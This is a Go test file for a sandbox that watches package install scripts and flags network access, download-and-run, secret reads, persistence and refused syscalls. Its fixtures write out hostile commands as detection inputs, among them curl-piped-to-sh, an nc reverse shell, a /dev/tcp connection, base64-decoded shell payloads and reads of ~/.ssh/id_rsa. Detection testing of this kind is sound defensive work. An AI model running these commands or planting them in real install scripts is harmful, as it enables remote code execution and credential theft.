package behaviour

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/phylum-box/phylum-box/container"
)

// fakeProcs stands in for the host's /proc: pid → parent, liveness, command line.
type fakeProcs map[int]fakeProc

type fakeProc struct {
	parent int
	dead   bool
	argv   []string
}

func (f fakeProcs) reader(pid int) procReader { return fakeOne{f, pid} }

type fakeOne struct {
	f   fakeProcs
	pid int
}

func (o fakeOne) ppid() int         { return o.f[o.pid].parent }
func (o fakeOne) alive() bool       { p, ok := o.f[o.pid]; return ok && !p.dead }
func (o fakeOne) cmdline() []string { return o.f[o.pid].argv }

func newTestRecorder(eco string, procs fakeProcs) *Recorder {
	r, err := NewRecorder(eco, nil)
	if err != nil {
		panic(err)
	}
	r.procs = procs.reader
	r.d = &Decoys{Canary: "0123456789abcdef", Home: "/home/u"}
	return r
}

var evilEnv = map[string]string{"npm_package_name": "evil", "npm_package_version": "6.6.6", "npm_lifecycle_event": "postinstall"}

func execEv(pid int, env map[string]string, cwd string, argv ...string) container.SyscallEvent {
	return container.SyscallEvent{Pid: pid, Syscall: "execve", Path: argv[0], Argv: argv, Env: env, Cwd: cwd}
}

func call(pid int, env map[string]string, syscall, addr string) container.SyscallEvent {
	return container.SyscallEvent{Pid: pid, Syscall: syscall, Addr: addr, Env: env, Cwd: "/p"}
}

// summary renders observations as "owner RULE severity" lines.
func summary(obs []Observation) string {
	var b strings.Builder
	for _, o := range obs {
		m := ""
		if o.Manager {
			m = " (manager)"
		}
		fmt.Fprintf(&b, "%s %s %s%s\n", o.Owner(), o.Rule, o.Severity, m)
	}
	return b.String()
}

func TestRules(t *testing.T) {
	// pid 10 is npm (the manager), 20 the package's `sh -c` script, 30 its child.
	procs := fakeProcs{
		10: {parent: 1, argv: []string{"node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"}},
		20: {parent: 10}, 30: {parent: 20}, 31: {parent: 30}, 40: {parent: 10},
	}
	script := func(r *Recorder, env map[string]string, cmd string) {
		r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
		r.OnEvent(execEv(20, env, "/p/node_modules/x", "sh", "-c", cmd))
	}
	for _, tt := range []struct {
		name   string
		events func(r *Recorder)
		want   string
	}{
		{"connect to a host", func(r *Recorder) {
			script(r, evilEnv, "node install.js")
			r.OnEvent(execEv(30, evilEnv, "/p/node_modules/evil", "node", "install.js"))
			r.OnEvent(call(30, evilEnv, "connect", "203.0.113.9:443"))
			r.OnEvent(call(30, evilEnv, "connect", "[2001:db8::1]:443"))
		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
		{"DNS to the resolver on loopback", func(r *Recorder) {
			script(r, evilEnv, "node install.js")
			r.OnEvent(call(20, evilEnv, "sendto", "127.0.0.53:53"))
		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
		{"twin: loopback, unix sockets and netlink are not the network", func(r *Recorder) {
			script(r, evilEnv, "node test-server.js")
			r.OnEvent(call(20, evilEnv, "connect", "127.0.0.1:8080"))
			r.OnEvent(call(20, evilEnv, "connect", "[::1]:3000"))
			r.OnEvent(call(20, evilEnv, "connect", "unix:/tmp/esbuild.sock"))
			r.OnEvent(call(20, evilEnv, "sendto", "netlink"))
			r.OnEvent(call(20, evilEnv, "sendmsg", "unix:@abstract"))
			r.OnEvent(call(20, evilEnv, "connect", "family 0"))
		}, ""},
		{"a child that cleared its environment is still the package's", func(r *Recorder) {
			script(r, evilEnv, "env -i node x.js")
			r.OnEvent(execEv(30, nil, "/", "node", "x.js"))
			r.OnEvent(call(30, nil, "connect", "198.51.100.7:80"))
		}, "evil@6.6.6 PB-BEHAVIOUR-NETWORK high\n"},
		{"prebuild-install's download attempt is a warning", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "better-sqlite3", "npm_package_version": "9.4.3"}
			script(r, env, "prebuild-install || node-gyp rebuild --release")
			r.OnEvent(execEv(30, env, "/p/node_modules/better-sqlite3", "node", "/p/node_modules/.bin/prebuild-install"))
			r.OnEvent(call(30, env, "connect", "127.0.0.53:53"))
		}, "better-sqlite3@9.4.3 PB-BEHAVIOUR-NETWORK medium\n"},
		{"node-gyp's download of the Node.js headers is a warning (cpu-features 0.0.10)", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "cpu-features", "npm_package_version": "0.0.10"}
			script(r, env, "node buildcheck.js > buildcheck.gypi && node-gyp rebuild")
			r.OnEvent(execEv(31, env, "/p/node_modules/cpu-features", "node", "/p/node_modules/.bin/node-gyp", "rebuild"))
			r.OnEvent(call(31, env, "connect", "10.255.255.53:53"))
		}, "cpu-features@0.0.10 PB-BEHAVIOUR-NETWORK medium\n"},
		{"re2's install-from-cache is a fetcher too", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "re2", "npm_package_version": "1.24.0"}
			script(r, env, "install-from-cache --artifact build/Release/re2.node || node-gyp rebuild")
			r.OnEvent(execEv(30, env, "/p/node_modules/re2", "node", "/p/node_modules/.bin/install-from-cache", "--artifact", "build/Release/re2.node"))
			r.OnEvent(call(30, env, "connect", "10.255.255.53:53"))
		}, "re2@1.24.0 PB-BEHAVIOUR-NETWORK medium\n"},
		{"a known binary downloader's attempt is a warning", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "@prisma/engines", "npm_package_version": "7.10.1"}
			script(r, env, "node scripts/postinstall.js")
			r.OnEvent(call(20, env, "connect", "10.255.255.53:53"))
		}, "@prisma/engines@7.10.1 PB-BEHAVIOUR-NETWORK medium\n"},
		{"its twin: the same package reading a secret is high", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "@prisma/engines", "npm_package_version": "7.10.1"}
			script(r, env, "node scripts/postinstall.js")
			r.onTouch(DecoyTouch{Path: "~/.aws/credentials", Secret: true, Op: "opened"})
		}, "@prisma/engines@7.10.1 PB-BEHAVIOUR-SECRET-READ high\n"},
		{"package code through the egress proxy of a resolve step", func(r *Recorder) {
			r.eco = "PyPI"
			proxy := map[string]string{"HTTPS_PROXY": "http://127.0.0.1:41234"}
			r.OnEvent(execEv(10, proxy, "/p", "python3", "-m", "pip", "install", "--dry-run", "--report", "r.json", "evil"))
			r.OnEvent(call(10, proxy, "connect", "127.0.0.1:41234"))
			// setup.py of an sdist pip unpacked, its proxy variables cleared
			r.OnEvent(execEv(20, nil, "/tmp/pip-install-x1/evil_0123456789abcdef0123456789abcdef", "python3", "setup.py", "egg_info"))
			r.OnEvent(call(20, nil, "connect", "127.0.0.1:41234"))
		}, "evil PB-BEHAVIOUR-NETWORK high\n"},
		{"twin: pip and its build-env runner use the proxy", func(r *Recorder) {
			r.eco = "PyPI"
			// pid 20 is a fork of pip, its command line still pip's.
			pip := []string{"python3", "-m", "pip", "install", "--dry-run", "evil"}
			old10, old20 := procs[10], procs[20]
			procs[10] = fakeProc{parent: 1, argv: pip}
			procs[20] = fakeProc{parent: 10, argv: pip}
			defer func() { procs[10], procs[20] = old10, old20 }()
			proxy := map[string]string{"https_proxy": "http://localhost:41234"}
			r.OnEvent(execEv(10, proxy, "/p", "python3", "-m", "pip", "install", "--dry-run", "evil"))
			r.OnEvent(call(10, proxy, "connect", "127.0.0.1:41234"))
			r.OnEvent(execEv(20, proxy, "/p", "/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install", "setuptools>=40.8.0"))
			r.OnEvent(call(20, proxy, "connect", "127.0.0.1:41234"))
		}, ""},
		{"a setup.py running pip itself is still the package", func(r *Recorder) {
			r.eco = "PyPI"
			proxy := map[string]string{"HTTPS_PROXY": "http://127.0.0.1:41234"}
			r.OnEvent(execEv(10, proxy, "/p", "python3", "-m", "pip", "install", "--dry-run", "evil"))
			r.OnEvent(execEv(20, proxy, "/tmp/pip-install-x1/evil_0123456789abcdef0123456789abcdef", "python3", "setup.py", "egg_info"))
			r.OnEvent(execEv(30, proxy, "/tmp", "python3", "-m", "pip", "download", "payload"))
			r.OnEvent(call(30, proxy, "connect", "127.0.0.1:41234"))
		}, "evil PB-BEHAVIOUR-NETWORK high\n"},
		{"the manager's own attempt is marked", func(r *Recorder) {
			r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
			r.OnEvent(call(10, nil, "connect", "104.16.0.35:443"))
		}, "the package manager PB-BEHAVIOUR-NETWORK high (manager)\n"},
		{"an unattributable process is not the manager", func(r *Recorder) {
			r.OnEvent(execEv(40, nil, "/", "node", "-e", "require('net').connect(443,'x')"))
			r.OnEvent(call(40, nil, "connect", "192.0.2.1:443"))
		}, "an unidentified process PB-BEHAVIOUR-NETWORK high\n"},
		{"curl", func(r *Recorder) {
			script(r, evilEnv, "curl -s https://x.example/p | sh || true")
			r.OnEvent(execEv(30, evilEnv, "/p/node_modules/evil", "/usr/bin/curl", "-s", "https://x.example/p"))
		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
		{"wget, nc, powershell", func(r *Recorder) {
			script(r, evilEnv, "true")
			r.OnEvent(execEv(30, evilEnv, "/p", "wget", "-q", "http://x"))
			r.OnEvent(execEv(31, evilEnv, "/p", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"))
			r.OnEvent(execEv(30, evilEnv, "/p", "pwsh", "-c", "iwr"))
		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
		{"base64 decoded into a shell", func(r *Recorder) {
			script(r, evilEnv, "echo Y3VybCB4fHNo | base64 -d | sh")
		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
		{"eval of a download in double quotes", func(r *Recorder) {
			script(r, evilEnv, `eval "$(curl -fsSL https://x.example/s)" || true`)
		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
		{"bash /dev/tcp", func(r *Recorder) {
			script(r, evilEnv, "exec 3<>/dev/tcp/203.0.113.9/443 || true")
		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
		{"twin: node-gyp runs python, make and cc; husky runs git; esbuild runs node", func(r *Recorder) {
			env := map[string]string{"npm_package_name": "bcrypt", "npm_package_version": "5.1.1"}
			script(r, env, "node-pre-gyp install --fallback-to-build")
			for i, argv := range [][]string{
				{"node", "/p/node_modules/.bin/node-gyp", "rebuild"},
				{"/usr/bin/python3", "/p/node_modules/node-gyp/gyp/gyp_main.py", "binding.gyp"},
				{"make", "BUILDTYPE=Release", "-C", "build"},
				{"cc", "-o", "Release/obj.target/bcrypt_lib/src/blowfish.o", "-c", "../src/blowfish.cc"},
				{"g++", "-shared", "-o", "Release/obj.target/bcrypt_lib.node"},
				{"sh", "-c", "git rev-parse --git-dir && git config core.hooksPath .husky"},
				{"git", "config", "core.hooksPath", ".husky"},
				{"node", "install.js"},
				{"sh", "-c", "node ./scripts/postinstall.js || echo 'curl is not needed'"},
				{"sh", "-c", "test -f dist/x || (echo building; npm run build)"},
				{"sh", "-c", "node hint.js || echo 'install bun: curl -fsSL https://bun.sh/install | bash'"},
				{"sh", "-c", `echo "or: wget -qO- https://x.example/i | sh" >&2`},
			} {
				r.OnEvent(execEv(30+i%2, env, "/p/node_modules/bcrypt", argv...))
			}
		}, ""},
		{"setsid", func(r *Recorder) {
			script(r, evilEnv, "setsid node daemon.js &")
			r.OnEvent(call(30, evilEnv, "setsid", ""))
		}, "evil@6.6.6 PB-BEHAVIOUR-DETACH medium\n"},
		{"refused calls", func(r *Recorder) {
			script(r, evilEnv, "node x.js")
			r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "ptrace", Refused: true, Env: evilEnv})
			r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "unshare", Refused: true, Env: evilEnv})
		}, "evil@6.6.6 PB-BEHAVIOUR-REFUSED-SYSCALL high\n"},
		{"a refused probe is a warning (cypress's dmesg)", func(r *Recorder) {
			script(r, evilEnv, "node x.js")
			r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "syslog", Refused: true, Env: evilEnv})
		}, "evil@6.6.6 PB-BEHAVIOUR-REFUSED-SYSCALL medium\n"},
		{"the canary in a program's arguments", func(r *Recorder) {
			script(r, evilEnv, "node x.js")
			r.OnEvent(execEv(30, evilEnv, "/p", "node", "-e", "send('AKIA0123456789ABCDEF')"))
		}, "evil@6.6.6 PB-BEHAVIOUR-CANARY high\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := newTestRecorder("npm", procs)
			tt.events(r)
			r.Close()
			if got := summary(r.Findings()); got != tt.want {
				t.Errorf("observations:\n%swant:\n%s", got, tt.want)
			}
		})
	}
}

func TestEvidenceDeduplicatedAndCapped(t *testing.T) {
	r := newTestRecorder("npm", fakeProcs{20: {parent: 1}})
	r.OnEvent(execEv(20, evilEnv, "/p", "node", "x.js"))
	for i := 0; i < 3; i++ {
		r.OnEvent(call(20, evilEnv, "connect", "203.0.113.9:443"))
	}
	for i := 0; i < 9; i++ {
		r.OnEvent(call(20, evilEnv, "connect", fmt.Sprintf("203.0.113.%d:443", 10+i)))
	}
	obs := r.Findings()
	if len(obs) != 1 {
		t.Fatalf("observations: %s", summary(obs))
	}
	ev := obs[0].Evidence
	if len(ev) != maxEvidence+1 || ev[0] != "pid 20 node x.js: connect 203.0.113.9:443" || ev[maxEvidence] != "… and 5 more" {
		t.Errorf("evidence = %q", ev)
	}
}

func TestTouchAttribution(t *testing.T) {
	secret := DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "opened"}
	a := map[string]string{"npm_package_name": "a", "npm_package_version": "1.0.0"}
	b := map[string]string{"npm_package_name": "b", "npm_package_version": "2.0.0"}
	for _, tt := range []struct {
		name  string
		procs fakeProcs
		want  string
	}{
		{"one script running", fakeProcs{20: {}, 21: {dead: true}}, "a@1.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
		{"two running: both candidates", fakeProcs{20: {}, 21: {}}, "one of a@1.0.0, b@2.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
		{"none running any more: those that ran", fakeProcs{20: {dead: true}, 21: {dead: true}}, "one of a@1.0.0, b@2.0.0 PB-BEHAVIOUR-SECRET-READ high\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := newTestRecorder("npm", tt.procs)
			r.OnEvent(execEv(20, a, "/p", "sh", "-c", "node a.js"))
			r.OnEvent(execEv(21, b, "/p", "sh", "-c", "node b.js"))
			r.onTouch(secret)
			r.onTouch(DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "read"})
			if got := summary(r.Findings()); got != tt.want {
				t.Errorf("observations:\n%swant:\n%s", got, tt.want)
			}
		})
	}
	// No package code ran at all: not attributable.
	r := newTestRecorder("npm", fakeProcs{})
	r.onTouch(DecoyTouch{Path: "~/.bashrc", Op: "modified"})
	if got, want := summary(r.Findings()), "an unidentified process PB-BEHAVIOUR-PERSISTENCE high\n"; got != want {
		t.Errorf("observations:\n%swant:\n%s", got, want)
	}
}

func TestIsManager(t *testing.T) {
	for _, tt := range []struct {
		eco  string
		argv []string
		want bool
	}{
		{"npm", []string{"npm", "ci"}, true},
		{"npm", []string{"/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"}, true},
		{"npm", []string{"node", "/p/.yarn/releases/yarn-4.1.0.cjs", "install"}, true},
		{"npm", []string{"node", "/usr/lib/node_modules/pnpm/bin/pnpm.cjs", "rebuild"}, true},
		{"npm", []string{"node", "install.js"}, false},
		{"npm", []string{"sh", "-c", "npm run build"}, false},
		{"PyPI", []string{"python3", "-m", "pip", "install"}, true},
		{"PyPI", []string{"/venv/bin/python", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install"}, true},
		{"PyPI", []string{"python3", "setup.py", "egg_info"}, false},
		{"crates.io", []string{"cargo", "build"}, true},
		{"crates.io", []string{"/p/target/debug/build/x-1/build-script-build"}, false},
		{"RubyGems", []string{"ruby", "/usr/bin/bundle", "install"}, true},
		{"RubyGems", []string{"ruby", "extconf.rb"}, false},
	} {
		if got := isManager(tt.eco, tt.argv); got != tt.want {
			t.Errorf("isManager(%s, %q) = %v, want %v", tt.eco, tt.argv, got, tt.want)
		}
	}
}

// TestAttributionLearnsFromChildren: an exec's environment is read before the exec
// (a forked child's is its parent's), so the `sh -c` npm starts for a script is
// told by its directory at best; its children's environment names the package and
// version, and what the script did is filed under them in the end.
func TestAttributionLearnsFromChildren(t *testing.T) {
	procs := fakeProcs{10: {parent: 1}, 20: {parent: 10}, 21: {parent: 20}, 30: {parent: 10}, 31: {parent: 30}}
	env := map[string]string{"npm_package_name": "evil-e2e", "npm_package_version": "1.0.0", "npm_lifecycle_event": "postinstall"}
	r := newTestRecorder("npm", procs)
	r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
	// A dependency's script: its dir names it, without a version.
	r.OnEvent(execEv(20, nil, "/p/node_modules/evil-e2e", "sh", "-c", "cat ~/.ssh/id_rsa; curl -s x | sh"))
	r.OnEvent(execEv(21, env, "/p/node_modules/evil-e2e", "cat", "/root/.ssh/id_rsa"))
	r.onTouch(DecoyTouch{Path: "~/.ssh/id_rsa", Secret: true, Op: "opened"})
	// The project's own script: its dir (the project) names nothing.
	root := map[string]string{"npm_package_name": "app", "npm_package_version": "2.0.0"}
	r.OnEvent(execEv(30, nil, "/p", "sh", "-c", "wget -qO- x | sh"))
	r.OnEvent(execEv(31, root, "/p", "wget", "-qO-", "x"))
	got := summary(r.Findings())
	want := "app@2.0.0 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n" +
		"evil-e2e@1.0.0 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n" +
		"evil-e2e@1.0.0 PB-BEHAVIOUR-SECRET-READ high\n"
	if got != want {
		t.Errorf("observations:\n%swant:\n%s", got, want)
	}
}

// TestExecEnvNamesTheScript: npm gives a script's lifecycle variables to the new
// program only; the caller's environment tells for `env -i`.
func TestExecEnvNamesTheScript(t *testing.T) {
	procs := fakeProcs{10: {parent: 1}, 20: {parent: 10}, 21: {parent: 20}}
	env := map[string]string{"npm_package_name": "evil", "npm_package_version": "6.6.6"}
	r := newTestRecorder("npm", procs)
	r.OnEvent(execEv(10, nil, "/p", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "rebuild"))
	sh := execEv(20, nil, "/p", "sh", "-c", "env -i curl -s x")
	sh.ExecEnv = env
	r.OnEvent(sh)
	curl := execEv(21, env, "/p", "curl", "-s", "x")
	curl.ExecEnv = map[string]string{}
	r.OnEvent(curl)
	if got, want := summary(r.Findings()), "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"; got != want {
		t.Errorf("observations:\n%swant:\n%s", got, want)
	}
	if p := r.seen[20].pkg; p != (Package{"npm", "evil", "6.6.6"}) {
		t.Errorf("the script's sh is %+v at its exec", p)
	}
}

// The directories the project sits in never name a package: pip's own process
// in a project at /tmp/pbox-reg-2421900943/home/src/api-2 is not api@2 or
// pbox-reg@2421900943 (measured: pip's use of the egress proxy was filed under
// the project's path); a sdist unpacked under it still is.
func TestProjectPathNamesNoPackage(t *testing.T) {
	r := newTestRecorder("PyPI", fakeProcs{})
	r.SetProject("/tmp/pbox-reg-2421900943/home/src/api-2")
	for cwd, want := range map[string]string{
		"/tmp/pbox-reg-2421900943/home/src/api-2":                    "",
		"/tmp/pbox-reg-2421900943/home/src/api-2/.venv/lib":          "",
		"/tmp/pbox-reg-2421900943/home/src/api-2/vendor/evil-1.0.0":  "evil@1.0.0",
		"/tmp/pip-install-abc/evil_0123456789abcdef0123456789abcdef": "evil@",
		"/tmp/tmpq1w2e3/evil-2.0":                                    "evil@2.0",
	} {
		got := Attribute("PyPI", nil, r.belowProject(cwd))
		s := ""
		if !got.IsZero() {
			s = got.Name + "@" + got.Version
		}
		if s != want {
			t.Errorf("%s: %q, want %q", cwd, s, want)
		}
	}
}

// A script's read is its own even when the watch's goroutine gets to it only
// after the script ended and the next one started (a loaded machine): the
// queue is drained at each exit_group and exec.
func TestTouchOwnedWhenTheWatchLags(t *testing.T) {
	watchLoopStall = func() { time.Sleep(300 * time.Millisecond) }
	defer func() { watchLoopStall = nil }()
	d, err := NewDecoys(t.TempDir(), "/home/u", os.Getuid(), os.Getgid())
	if err != nil {
		t.Fatal(err)
	}
	r, err := NewRecorder("npm", d)
	if err != nil {
		t.Fatal(err)
	}
	procs := fakeProcs{20: {parent: 10}, 21: {parent: 10}}
	r.procs = procs.reader
	kube := map[string]string{"npm_package_name": "lb-read-kube", "npm_package_version": "1.0.0"}
	ssh := map[string]string{"npm_package_name": "lb-read-ssh", "npm_package_version": "1.0.0"}
	r.OnEvent(execEv(20, kube, "/p", "node", "i.js"))
	f, err := os.Open(d.Secrets[0].Source)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	r.OnEvent(container.SyscallEvent{Pid: 20, Syscall: "exit_group"})
	procs[20] = fakeProc{parent: 10, dead: true}
	r.OnEvent(execEv(21, ssh, "/p", "node", "i.js"))
	r.Close()
	if got, want := summary(r.Findings()), "lb-read-kube@1.0.0 PB-BEHAVIOUR-SECRET-READ high\n"; got != want {
		t.Errorf("observations:\n%swant:\n%s", got, want)
	}
}
